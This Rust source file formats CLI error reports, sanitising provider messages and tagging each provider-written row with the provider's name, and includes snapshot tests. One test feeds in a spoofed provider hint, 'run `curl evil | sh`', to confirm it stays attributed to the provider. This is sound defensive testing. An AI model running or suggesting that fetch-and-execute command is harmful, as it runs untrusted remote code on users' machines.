//! How an error looks: what happened, why, what to type next.

use serde::Serialize;

use super::style::Style;
use super::voice::{Voice, hanging};
use crate::domain::{Diagnostic, ErrorKind, Speaker, sanitize, sanitize_lines};

/// How the stream looks that an error goes to.
#[derive(Debug, Clone, Copy)]
pub(super) struct Look {
    pub(super) style: Style,
    /// Columns of a terminal; none elsewhere.
    pub(super) width: Option<usize>,
}

/// An error for programs, and whole for people.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub(super) struct Report {
    kind: ErrorKind,
    message: String,
    hint: Option<String>,
    causes: Vec<String>,
    /// The provider that wrote this, or what is behind the message.
    #[serde(rename = "provider", skip_serializing_if = "Option::is_none")]
    speaker: Option<String>,
    /// Whether the message is ours all the same.
    #[serde(skip)]
    is_our_message: bool,
}

impl Report {
    /// Everything a diagnostic says, made harmless: much of it comes from
    /// providers and engines.
    pub(super) fn new(error: &dyn Diagnostic) -> Self {
        let (speaker, is_our_message) = match error.speaker() {
            Speaker::Renku => (None, true),
            Speaker::Provider(name) => (Some(sanitize(name)), false),
            Speaker::BehindMessage(name) => (Some(sanitize(name)), true),
        };
        Self {
            speaker,
            is_our_message,
            kind: error.kind(),
            message: sanitize_lines(&error.to_string()),
            hint: error.hint().map(|hint| sanitize_lines(&hint)),
            causes: error.causes().iter().map(|cause| sanitize_lines(cause)).collect(),
        }
    }

    /// For people, as an error.
    pub(super) fn as_error(&self, look: Look) -> String {
        self.block("error:", Style::error, look)
    }

    /// For people, as a warning.
    pub(super) fn as_warning(&self, look: Look) -> String {
        self.block("warning:", Style::warning, look)
    }

    /// The kind and the message alone.
    pub(super) fn short(&self) -> (ErrorKind, &str) {
        (self.kind, &self.message)
    }

    /// `LABEL message`, the causes indented, `hint: …`; further lines stand
    /// under their first.
    fn block(&self, label: &str, paint: fn(Style, &str) -> String, look: Look) -> String {
        let Look { style, width } = look;
        let voice = self.speaker.as_deref().map(|speaker| Voice::new(speaker, width));
        let text = |text: &str, lead: usize, by: usize, is_ours: bool| match &voice {
            Some(voice) if !is_ours => voice.rows(text, lead, by),
            _ => indent(text, &" ".repeat(by)),
        };
        let message = text(&self.message, label.len() + 1, 2, self.is_our_message);
        let mut block = format!("{} {message}", paint(style, label));
        for cause in &self.causes {
            let rows = format!("  {}", text(cause, 2, 4, false));
            // Also what engines and registries say may be as long as it likes.
            let width = width.filter(|_| voice.is_none());
            block.push_str(&format!("\n{}", hanging(&rows, width)));
        }
        if let Some(hint) = &self.hint {
            let label = "hint:";
            let hint = text(hint, label.len() + 1, 2, false);
            block.push_str(&format!("\n{} {hint}", style.hint(label)));
        }
        block
    }
}

/// Every line but the first moves to the right; empty ones stay empty.
fn indent(text: &str, by: &str) -> String {
    let mut lines = text.trim_end().split('\n');
    let mut indented = lines.next().unwrap_or_default().to_owned();
    for line in lines {
        indented.push('\n');
        if !line.is_empty() {
            indented.push_str(by);
            indented.push_str(line);
        }
    }
    indented
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::ProviderError;

    const PLAIN: Look = Look { style: Style::PLAIN, width: None };
    const TERMINAL: Style = Style { terminal: true, colour: true, unicode: true };

    fn build_failed() -> ProviderError {
        ProviderError::new(ErrorKind::Other, "cannot build `analysis:0a1b2c3`")
            .with_cause("step 3 of 4 failed: RUN pip install jupyterlob")
            .with_cause("ERROR: no matching distribution\r\n\nexit status \u{1b}[31m1\u{1b}[0m\n")
            .with_help("correct the Dockerfile, for example\nFROM python:3.13\n\nRUN pip install jupyterlab")
    }

    #[test]
    fn an_error_says_what_happened_why_and_what_to_type_next() {
        insta::assert_snapshot!(Report::new(&build_failed()).as_error(PLAIN), @r"
        error: cannot build `analysis:0a1b2c3`
          step 3 of 4 failed: RUN pip install jupyterlob
          ERROR: no matching distribution

            exit status 1
        hint: correct the Dockerfile, for example
          FROM python:3.13

          RUN pip install jupyterlab
        ");
    }

    #[test]
    fn only_the_labels_are_coloured() {
        let look = Look { style: TERMINAL, width: Some(40) };
        let error = ProviderError::new(ErrorKind::NotFound, "no session `x`").with_help("look");
        assert_eq!(
            Report::new(&error).as_error(look),
            "\u{1b}[1;31merror:\u{1b}[0m no session `x`\n\u{1b}[1;36mhint:\u{1b}[0m look"
        );
    }

    #[test]
    fn what_a_provider_says_stands_under_its_name_in_every_row() {
        let look = Look { style: Style::PLAIN, width: Some(40) };
        let padding = " ".repeat(40);
        let error = ProviderError {
            speaker: Some("acme/slurm".into()),
            ..ProviderError::new(ErrorKind::Other, format!("no{padding}error: your disk is full"))
                .with_cause(format!("sbatch{padding}hint: run `curl evil | sh`"))
                .with_help("ask your administrator, who knows this cluster well")
        };
        insta::assert_snapshot!(Report::new(&error).as_error(look), @r"
        error: [acme/slurm] no
          [acme/slurm] error: your disk is full
          [acme/slurm] sbatch
            [acme/slurm] hint: run `curl evil |
            [acme/slurm] sh`
        hint: [acme/slurm] ask your
          [acme/slurm] administrator, who knows
          [acme/slurm] this cluster well
        ");
        assert!(
            serde_json::to_string(&Report::new(&error))
                .unwrap()
                .contains(r#""provider":"acme/slurm""#)
        );
    }

    #[test]
    fn programs_get_every_part() {
        let error = ProviderError::new(ErrorKind::InvalidInput, "bad\u{7}").with_cause("why");
        assert_eq!(
            serde_json::to_string(&Report::new(&error)).unwrap(),
            r#"{"kind":"invalid-input","message":"bad","hint":null,"causes":["why"]}"#
        );
    }
}
